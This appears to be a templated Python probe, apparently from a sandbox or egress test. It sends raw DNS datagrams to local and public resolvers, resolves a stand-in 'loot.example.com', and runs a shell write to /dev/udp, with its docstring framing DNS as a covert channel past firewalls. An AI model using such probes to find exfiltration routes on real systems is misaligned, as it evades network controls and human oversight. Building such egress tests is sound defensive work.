"""Sends datagrams to the machine and asks for names, in whose labels it would carry what it found.

Gains: a channel out that firewalls often leave open.
"""

HONEST = []

# %% [reshape]
got = []
import socket
import subprocess

question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
for address in (("127.0.0.1", {{ port }}), ("127.0.0.53", 53), ("1.1.1.1", 53), ("8.8.8.8", 53), ("224.0.0.251", 5353)):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.settimeout(0.3)
            end.sendto(question, address)
            got.append(address)
            print(address, end.recvfrom(1000))
    except OSError as error:
        print(address, error)
for name in ("localhost", "example.com", "loot.example.com"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, error)
for command in (["getent", "hosts", "example.com"], ["ping", "-c1", "-W1", "127.0.0.1"], ["/bin/sh", "-c", "echo x > /dev/udp/127.0.0.1/{{ port }}"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=1))
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)

# %% [parameters]
parameters = 19090 if got else 0
